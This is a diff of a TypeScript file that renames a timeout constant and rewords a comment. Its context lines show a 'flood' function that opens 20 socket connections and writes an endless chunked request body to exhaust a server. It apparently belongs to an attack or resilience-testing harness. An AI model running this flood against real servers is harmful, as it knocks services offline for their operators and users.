@@ -2,10 +2,10 @@ import { connect } from 'node:net';
 import { createClient, register, runAttack } from './client.ts';
 
 const connections = 20;
-const patience = 5_000;
+const timeoutMs = 5_000;
 const piece = '1\r\ny\r\n'.repeat(10_000);
 
-/** Sends a body without end in chunks of one byte, which cost a server far more than its sender. */
+/** Sends an endless body in chunks of one byte, which cost a server far more than their sender. */
 const flood = (origin: string, path: string) =>
   new Promise<void>((resolve) => {
     const { hostname, port, host } = new URL(origin);
@@ -20,7 +20,7 @@ const flood = (origin: string, path: string) =>
     const send = () => {
       while (!socket.destroyed) if (!socket.write(piece)) return;
     };
-    const timer = setTimeout(() => socket.resetAndDestroy(), patience);
+    const timer = setTimeout(() => socket.resetAndDestroy(), timeoutMs);
     socket.on('drain', send).on('error', () => {});
     socket.on('close', () => {
       clearTimeout(timer);
